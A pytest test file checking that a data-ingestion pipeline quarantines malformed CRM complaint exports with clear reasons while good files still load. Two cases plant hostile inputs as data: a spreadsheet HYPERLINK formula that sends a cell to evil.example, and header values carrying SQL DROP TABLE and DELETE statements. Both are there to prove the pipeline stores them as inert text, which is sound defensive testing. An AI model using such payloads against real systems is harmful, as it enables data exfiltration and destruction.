"""Bad-input corpus (issue 8, item 1): each case ends in a clear quarantine reason (or a clean
load) while the good file beside it still lands."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from bad_inputs.corpus import (
    DICTIONARY,
    HEADER,
    ROWS,
    csv_text,
    write_jsonl,
    write_xlsx,
    write_xlsx_without_sheets,
)

from orchestration.lib.ingest import ingest_entity
from orchestration.lib.settings import get_settings
from orchestration.lib.warehouse import connect

GOOD = "crm/complaints_20240101.csv"


def _truncated(p: Path):
    data = csv_text().encode()
    p.write_bytes(data[: len(data) - 12])  # cut inside the last record


def _truncated_quote(p: Path):
    p.write_text(csv_text() + 'C009,2024-03-15,"never closed\n', encoding="utf-8")


def _binary(p: Path):
    p.write_bytes(bytes(range(256)) * 64)


def _empty(p: Path):
    p.write_bytes(b"")


def _header_only(p: Path):
    p.write_text(",".join(HEADER) + "\n", encoding="utf-8")


def _wrong_delimiter(p: Path):  # read with `;`, the delimiter its header makes sense under
    p.write_text(csv_text(delim=";"), encoding="utf-8")


def _no_delimiter_fits(p: Path):  # under no delimiter does the header name received_at
    p.write_text(csv_text(header=["complaint_id", "time", "description", "qty"], delim=";"),
                 encoding="utf-8")


def _gbk_inside_utf8(p: Path):
    lines = csv_text().encode("utf-8").splitlines(keepends=True)
    lines.insert(2, "C100,2024-03-16 10:00:00,漏水严重,1\n".encode("gbk"))
    p.write_bytes(b"".join(lines))


def _ten_mb_line(p: Path):
    big = "C200,2024-03-16 10:00:00," + "长" * ((10 << 20) // 3) + ",1\n"
    p.write_text(csv_text() + big + "C201,2024-03-16 10:00:00,ok,1\n", encoding="utf-8")


def _no_sheets(p: Path):
    write_xlsx_without_sheets(p)


def _merged_header(p: Path):
    write_xlsx(p, ["complaint_id", "received_at", None, "description"],
               [["C1", "2024-03-15", "a", "b"]], merge="B1:C1")


def _broken_jsonl(p: Path):
    write_jsonl(p, [dict(zip(HEADER, r)) for r in ROWS],
                broken=['{"complaint_id": "C9", "received_at": ', "[1, 2]", "not json"])


def _duplicate_headers(p: Path):
    p.write_text(csv_text(HEADER + ["客诉单号"], [r + ["X"] for r in ROWS]), encoding="utf-8")


def _formula(p: Path):
    rows = [list(r) for r in ROWS]
    rows[1][2] = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    write_xlsx(p, HEADER, rows)


def _spaces_and_chinese(p: Path):
    p.write_text(csv_text(rows=ROWS[::-1]), encoding="utf-8")


def _unmatched_chinese(p: Path):
    p.write_text(csv_text(), encoding="utf-8")


def _sql_injection_header(p: Path):
    evil = "x'); DROP TABLE raw.crm__complaints; --"
    p.write_text(csv_text(HEADER + [evil, '"; DELETE FROM raw._file_manifest; --'],
                          [r + ["1", "2"] for r in ROWS]), encoding="utf-8")


# case: (file name, writer, expected status, expected reason codes, rows landed)
CASES = {
    "truncated": ("complaints_20240102.csv", _truncated, "loaded", {"malformed_row"}, 2),
    "truncated_quote": ("complaints_20240102.csv", _truncated_quote, "loaded",
                        {"malformed_row"}, 3),
    "binary": ("complaints_20240102.csv", _binary, "quarantined", {"unreadable_file"}, 0),
    "empty": ("complaints_20240102.csv", _empty, "quarantined", {"empty_file"}, 0),
    "header_only": ("complaints_20240102.csv", _header_only, "loaded", set(), 0),
    "wrong_delimiter": ("complaints_20240102.csv", _wrong_delimiter, "loaded", set(), 3),
    "no_delimiter_fits": ("complaints_20240102.csv", _no_delimiter_fits, "quarantined",
                          {"missing_required_column"}, 0),
    "gbk_inside_utf8": ("complaints_20240102.csv", _gbk_inside_utf8, "loaded",
                        {"encoding_error"}, 3),
    "ten_mb_line": ("complaints_20240102.csv", _ten_mb_line, "loaded", {"malformed_row"}, 4),
    "xlsx_no_sheets": ("complaints_20240102.xlsx", _no_sheets, "quarantined",
                       {"unreadable_file"}, 0),
    "xlsx_merged_header": ("complaints_20240102.xlsx", _merged_header, "quarantined",
                           {"blank_header"}, 0),
    "jsonl_broken_lines": ("complaints_20240102.jsonl", _broken_jsonl, "loaded",
                           {"malformed_row"}, 3),
    # the repeated id column disagrees with the first on every row: each row quarantined
    "duplicate_headers": ("complaints_20240102.csv", _duplicate_headers, "loaded",
                          {"duplicate_header"}, 0),
    "formula_cells": ("complaints_20240102.xlsx", _formula, "loaded", {"formula_cell"}, 2),
    "spaces_and_chinese_name": ("complaints_20240102 副本 (2).csv", _spaces_and_chinese,
                                "loaded", set(), 3),
    "unmatched_chinese_name": ("客诉 导出 2024.csv", _unmatched_chinese, None,
                               {"unknown_entity"}, 0),
    "sql_injection_header": ("complaints_20240102.csv", _sql_injection_header, "loaded",
                             set(), 3),
}


@pytest.mark.parametrize("case", list(CASES))
def test_bad_input(case, tmp_path):
    name, write, status, reasons, landed = CASES[case]
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    crm = settings.exports / "crm"
    crm.mkdir(parents=True)
    (settings.exports / GOOD).write_text(csv_text(), encoding="utf-8")
    write(crm / name)
    summary = ingest_entity(settings, DICTIONARY, "crm", "complaints")
    rel = f"crm/{name}"
    with connect(settings) as con:
        q = con.execute("SELECT reason_code, source_row, detail, raw_record FROM raw._quarantine "
                        "WHERE source_file = ?", [rel]).fetchall()
        per_file = dict(con.execute("SELECT _source_file, count(*) FROM raw.crm__complaints "
                                    "GROUP BY 1").fetchall())
        tables = {r[0] for r in con.execute(
            "SELECT table_name FROM information_schema.tables WHERE table_schema='raw'").fetchall()}
    assert per_file.get(GOOD) == 3, "the good file beside the bad one must still land"
    assert {r[0] for r in q} == reasons
    for reason, row, detail, _ in q:
        assert rel in detail, f"the detail must name the file: {detail}"
    assert per_file.get(rel, 0) == landed
    by_path = {f.path: f for f in summary.files}
    if status is not None:
        f = by_path[rel]
        assert f.status == status
        assert f.rows_read == f.rows_landed + f.rows_quarantined
        if status == "quarantined":
            assert [r[1] for r in q] == [None]
    assert {"crm__complaints", "_file_manifest", "_quarantine"} <= tables


def test_gbk_row_keeps_its_text_and_others_keep_their_lines(tmp_path):
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    (settings.exports / "crm").mkdir(parents=True)
    _gbk_inside_utf8(settings.exports / "crm" / "complaints_20240102.csv")
    ingest_entity(settings, DICTIONARY, "crm", "complaints")
    with connect(settings) as con:
        q = con.execute("SELECT source_row, raw_record FROM raw._quarantine").fetchall()
        rows = con.execute("SELECT complaint_id, _source_row FROM raw.crm__complaints "
                           "ORDER BY 2").fetchall()
    assert q == [(3, "C100,2024-03-16 10:00:00,漏水严重,1")]
    assert rows == [("C001", 2), ("C002", 4), ("C003", 5)]


def test_formula_is_kept_as_text_never_evaluated(tmp_path):
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    (settings.exports / "crm").mkdir(parents=True)
    _formula(settings.exports / "crm" / "complaints_20240102.xlsx")
    ingest_entity(settings, DICTIONARY, "crm", "complaints")
    with connect(settings) as con:
        (row, raw), = con.execute("SELECT source_row, raw_record FROM raw._quarantine").fetchall()
    assert row == 3 and "=HYPERLINK(" in raw


def test_sql_injection_header_is_data(tmp_path):
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    (settings.exports / "crm").mkdir(parents=True)
    _sql_injection_header(settings.exports / "crm" / "complaints_20240102.csv")
    ingest_entity(settings, DICTIONARY, "crm", "complaints")
    with connect(settings) as con:
        extra = con.execute("SELECT _extra FROM raw.crm__complaints LIMIT 1").fetchone()[0]
        gaps = {r[0] for r in con.execute("SELECT header_seen FROM raw._header_gaps").fetchall()}
        assert con.execute("SELECT count(*) FROM raw._file_manifest").fetchone()[0] == 1
    assert "x'); DROP TABLE raw.crm__complaints; --" in gaps
    assert "DROP TABLE" in extra


def _ingest_one(settings, name: str, content: bytes):
    """Ingest one complaints file: (summary, landed rows (complaint_id, description, qty,
    _extra, _source_row) in line order, quarantined rows (line, reason, detail))."""
    crm = settings.exports / "crm"
    crm.mkdir(parents=True)
    (crm / name).write_bytes(content)
    summary = ingest_entity(settings, DICTIONARY, "crm", "complaints")
    with connect(settings) as con:
        landed = con.execute("SELECT complaint_id, description, qty, _extra, _source_row FROM "
                             "raw.crm__complaints ORDER BY _source_row").fetchall()
        quarantined = con.execute("SELECT source_row, reason_code, detail FROM raw._quarantine "
                                  "ORDER BY source_row").fetchall()
    return summary, landed, quarantined


def test_a_stray_quote_costs_its_line_only(tmp_path):
    """An export that quotes nothing, with a description starting with an inch mark (`"55
    inch`) and another inch mark further down that closes it: read as written, every line
    between the two is one malformed record, and an independent quote-balanced count agrees,
    so the records would vanish unnoticed. The line with the stray quote is quarantined, every
    other record lands on its own delivered line, and the counts reconcile. GB18030 with a
    line of bad bytes before it, so the lines left out for both reasons compose."""
    lines = [",".join(HEADER).encode("gb18030"),
             "C001,2024-03-15 14:02:11,屏幕划痕,1".encode("gb18030"),
             b"C002,2024-03-15 14:03:00,\x81\x20broken bytes,1",
             '"C003,2024-03-15 14:04:00,55寸电视屏幕裂了,1'.encode("gb18030"),
             'C004,2024-03-15 14:05:00,"55 inch TV cracked,1'.encode("gb18030"),
             *[f"C{n:03d},2024-03-15 15:{n:02d}:00,漏水,1".encode("gb18030") for n in range(5, 9)],
             'C009,2024-03-15 16:00:00,12" tablet cracked,2'.encode("gb18030"),
             "C010,2024-03-15 16:01:00,不开机,1".encode("gb18030")]
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv",
                                               b"\r\n".join(lines) + b"\r\n")
    assert [(r[0], r[4]) for r in landed] == ([("C001", 2)]
                                              + [(f"C{n:03d}", n + 1) for n in range(5, 11)])
    assert [q[:2] for q in quarantined] == [(3, "encoding_error"), (4, "malformed_row"),
                                            (5, "malformed_row")]
    assert all("quote opens a field" in q[2] for q in quarantined[1:])
    (f,) = summary.files
    assert (f.status, f.rows_read, f.rows_landed, f.rows_quarantined) == ("loaded", 10, 7, 3)
    assert f.records_counted == 10  # no ledger_mismatch
    assert not list((settings.home / "tmp" / "ingest").glob("*"))  # the copies are removed


def test_rows_that_leave_out_trailing_optional_cells_land(tmp_path):
    """An export that ends a row at its last non-empty cell: the cells left out are optional
    fields (qty) or unknown columns (备注), so the row lands with them NULL, on its delivered
    line; a row that leaves out a required field's cell is quarantined with the field count."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv", (
        "complaint_id,received_at,description,qty,备注\n"
        "C001,2024-03-15 14:02:11,屏幕划痕,1,客户很着急\n"
        "C002,2024-03-15 14:03:00,不开机\n"
        "C003,2024-03-15 14:04:00,\"漏水, 很严重\",2\n"
        "C004,2024-03-15 14:05:00\n"
        "C005,2024-03-15 14:06:00,,\n"
        "C006,2024-03-15 14:07:00,异响,3,\n").encode())
    assert [(r[0], r[1], r[2], r[4]) for r in landed] == [
        ("C001", "屏幕划痕", "1", 2), ("C002", "不开机", None, 3),
        ("C003", "漏水, 很严重", "2", 4), ("C005", None, None, 6), ("C006", "异响", "3", 7)]
    assert json.loads(landed[0][3]) == {"备注": "客户很着急"}
    assert [q[:2] for q in quarantined] == [(5, "malformed_row")]
    assert "Expected Number of Columns: 5 Found: 2" in quarantined[0][2]
    (f,) = summary.files
    assert (f.rows_read, f.rows_landed, f.rows_quarantined, f.records_counted) == (6, 5, 1, 6)


def test_blank_lines_above_the_header_are_read_past(tmp_path):
    """An export that starts with blank lines: the header is the first non-blank record (the
    file was quarantined whole as having no header row)."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv", (
        "\r\n \r\ncomplaint_id,received_at,description,qty\r\n"
        "C001,2024-03-15 14:02:11,屏幕划痕,1\r\nC002,2024-03-15 14:03:00,不开机,2\r\n").encode())
    assert [(r[0], r[4]) for r in landed] == [("C001", 4), ("C002", 5)]
    assert quarantined == []
    (f,) = summary.files
    assert (f.status, f.rows_read, f.records_counted) == ("loaded", 2, 2)


def test_rows_after_a_multi_line_description_keep_their_lines(tmp_path):
    """A description typed over three lines (quoted, as CRM exports write it), an empty line,
    an inch mark inside a value: every landed row and the quarantined one carry the line the
    record starts on in the delivered file."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv", (
        "complaint_id,received_at,description,qty\n"
        "C001,2024-03-15 14:02:11,屏幕划痕,1\n"
        'C002,2024-03-15 14:03:00,"第一行\n第二行, 还有逗号\n第三行 ""引号""",2\n'
        "C003,2024-03-15 14:04:00,55\" 电视不开机,1\n"
        "\n"
        "C004,2024-03-15 14:05:00,异响,1,多余,更多\n"
        "C005,2024-03-15 14:06:00,漏水,3\n").encode())
    assert [(r[0], r[4]) for r in landed] == [("C001", 2), ("C002", 3), ("C003", 6),
                                              ("C005", 9)]
    assert landed[1][1] == '第一行\n第二行, 还有逗号\n第三行 "引号"'
    assert [q[:2] for q in quarantined] == [(8, "malformed_row")]
    (f,) = summary.files
    assert (f.rows_read, f.rows_landed, f.rows_quarantined, f.records_counted) == (5, 4, 1, 5)


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030", "utf-16"])
def test_an_export_that_ends_its_lines_with_a_carriage_return_alone(tmp_path, encoding):
    """Excel for Mac's "CSV (Macintosh)" ends every line with CR alone. Read as one line, the
    independent count found no record where the reader read three, and the blocking ledger
    check stopped the plant's first run. Every record lands on its delivered line, a
    description typed over two lines stays one value (its line break landed as a LF), a
    malformed line is quarantined on its line, and the counts reconcile."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv", (
        "complaint_id,received_at,description,qty\r"
        "C001,2024-03-15 14:02:11,屏幕划痕,1\r"
        'C002,2024-03-15 14:03:00,"第一行\r第二行",2\r'
        "C003,2024-03-15 14:04:00,异响,1,多余,更多\r"
        "C004,2024-03-15 14:05:00,漏水,3\r").encode(encoding))
    assert [(r[0], r[1], r[4]) for r in landed] == [
        ("C001", "屏幕划痕", 2), ("C002", "第一行\n第二行", 3), ("C004", "漏水", 6)]
    assert [q[:2] for q in quarantined] == [(5, "malformed_row")]
    (f,) = summary.files
    assert (f.status, f.rows_read, f.rows_landed, f.records_counted) == ("loaded", 4, 3, 4)


def test_a_carriage_return_export_with_a_line_of_bad_bytes(tmp_path):
    """GB18030 text with CR line ends and one line of bytes that are not GB18030: that line is
    quarantined on its own line (not the whole file, which reads as one line on LFs)."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv", b"\r".join([
        "complaint_id,received_at,description,qty".encode("gb18030"),
        "C001,2024-03-15 14:02:11,屏幕划痕,1".encode("gb18030"),
        b"C002,2024-03-15 14:03:00,\x81\x20broken bytes,1",
        "C003,2024-03-15 14:04:00,不开机,2".encode("gb18030")]) + b"\r")
    assert [(r[0], r[4]) for r in landed] == [("C001", 2), ("C003", 4)]
    assert [q[:2] for q in quarantined] == [(3, "encoding_error")]
    (f,) = summary.files
    assert (f.status, f.rows_read, f.rows_landed, f.records_counted) == ("loaded", 3, 2, 3)


def test_a_jsonl_export_that_ends_its_lines_with_a_carriage_return_alone(tmp_path):
    """JSON lines ended by CR alone: one record per line (not one malformed line holding all
    of them), a broken line quarantined on its own line, counts reconciled."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    records = [json.dumps({"complaint_id": "C001", "received_at": "2024-03-15 14:02:11",
                           "description": "屏幕划痕", "qty": 1}, ensure_ascii=False),
               '{"complaint_id": "C002", "received_at": ',
               json.dumps({"complaint_id": "C003", "received_at": "2024-03-15 14:04:00",
                           "description": "不开机"}, ensure_ascii=False)]
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.jsonl",
                                               "\r".join(records).encode() + b"\r")
    assert [(r[0], r[4]) for r in landed] == [("C001", 1), ("C003", 3)]
    assert [q[0] for q in quarantined] == [2]
    (f,) = summary.files
    assert (f.status, f.rows_read, f.rows_landed, f.records_counted) == ("loaded", 3, 2, 3)


def test_an_english_export_saved_by_windows_excel_keeps_its_characters(tmp_path):
    """Windows Excel's "CSV (Comma delimited)" writes Windows-1252: a degree sign, curly
    quotes and an accented name were read as GB18030, which made `don’t` into `don抰` and
    rejected lines where a byte of them stood before a comma."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv", (
        "complaint_id,received_at,description,qty\r\n"
        "C001,2024-03-15 14:02:11,Kettle doesn’t switch off – water at 100 °C,1\r\n"
        "C002,2024-03-15 14:03:00,“Lid cracked” said Mrs Müller,2\r\n"
        "C003,2024-03-15 14:04:00,Base too hot: café table burnt,1\r\n").encode("cp1252"))
    assert [r[1] for r in landed] == ["Kettle doesn’t switch off – water at 100 °C",
                                      "“Lid cracked” said Mrs Müller",
                                      "Base too hot: café table burnt"]
    assert quarantined == []
    (f,) = summary.files
    assert (f.rows_landed, f.records_counted) == (3, 3)
    with connect(settings) as con:
        assert con.execute("SELECT encoding FROM raw._file_manifest").fetchall() == [("cp1252",)]


def test_excel_for_macs_csv_is_mac_roman_with_cr_line_ends(tmp_path):
    """Excel for Mac's "CSV (Macintosh)": Mac OS Roman text, lines ended by CR alone."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv", (
        "complaint_id,received_at,description,qty\r"
        "C001,2024-03-15 14:02:11,Kettle doesn’t switch off at 100 °C,1\r"
        "C002,2024-03-15 14:03:00,Café table burnt,2\r").encode("mac_roman"))
    assert [(r[1], r[4]) for r in landed] == [("Kettle doesn’t switch off at 100 °C", 2),
                                              ("Café table burnt", 3)]
    assert quarantined == []
    (f,) = summary.files
    assert (f.rows_landed, f.records_counted) == (2, 2)
    with connect(settings) as con:
        assert con.execute("SELECT encoding FROM raw._file_manifest").fetchall() == [
            ("mac_roman",)]


def test_a_column_repeated_by_the_report_lands_where_both_agree(tmp_path):
    """A report that repeats a column (joined ERP views print a key twice): the first names
    the field, the later one is kept in `_extra`; rows where both say the same land, a row
    where they disagree (a value against a blank too) is quarantined naming both columns. The
    file was quarantined whole before; the repeated header is no dictionary gap."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv", (
        "complaint_id,received_at,description,qty,数量\n"
        "C001,2024-03-15 14:02:11,屏幕划痕,1,1\n"
        "C002,2024-03-15 14:03:00,不开机,2, 2 \n"
        "C003,2024-03-15 14:04:00,漏水,3,4\n"
        "C004,2024-03-15 14:05:00,异响,,5\n"
        "C005,2024-03-15 14:06:00,发热,,\n").encode())
    assert [(r[0], r[2], json.loads(r[3]), r[4]) for r in landed] == [
        ("C001", "1", {"数量#2": "1"}, 2), ("C002", "2", {"数量#2": " 2 "}, 3),
        ("C005", None, {"数量#2": None}, 6)]
    assert [q[:2] for q in quarantined] == [(4, "duplicate_header"), (5, "duplicate_header")]
    assert "'3' in its first column and '4' in column '数量#2'" in quarantined[0][2]
    (f,) = summary.files
    assert (f.status, f.rows_read, f.rows_landed, f.rows_quarantined, f.records_counted) == (
        "loaded", 5, 3, 2, 5)
    assert "qty also in column(s) '数量#2'" in f.detail
    with connect(settings) as con:
        assert con.execute("SELECT count(*) FROM raw._header_gaps").fetchone()[0] == 0


def test_a_report_with_one_line_per_filter_above_its_header(tmp_path):
    """ERP list reports print the title, the export time and one line per filter criterion
    above the header: fourteen lines here (the file was quarantined whole past ten)."""
    settings = get_settings(tmp_path / "home", tmp_path / "exports")
    above = ["客诉明细报表", "导出时间: 2024-03-16 08:00", "导出人: 张三",
             *[f"筛选条件{n}: 全部" for n in range(1, 12)]]
    summary, landed, quarantined = _ingest_one(settings, "complaints_20240315.csv", (
        "\n".join([*above, "complaint_id,received_at,description,qty",
                   "C001,2024-03-15 14:02:11,屏幕划痕,1"]) + "\n").encode("gb18030"))
    assert [(r[0], r[4]) for r in landed] == [("C001", 16)]
    assert quarantined == []
    (f,) = summary.files
    assert (f.status, f.rows_read, f.records_counted) == ("loaded", 1, 1)
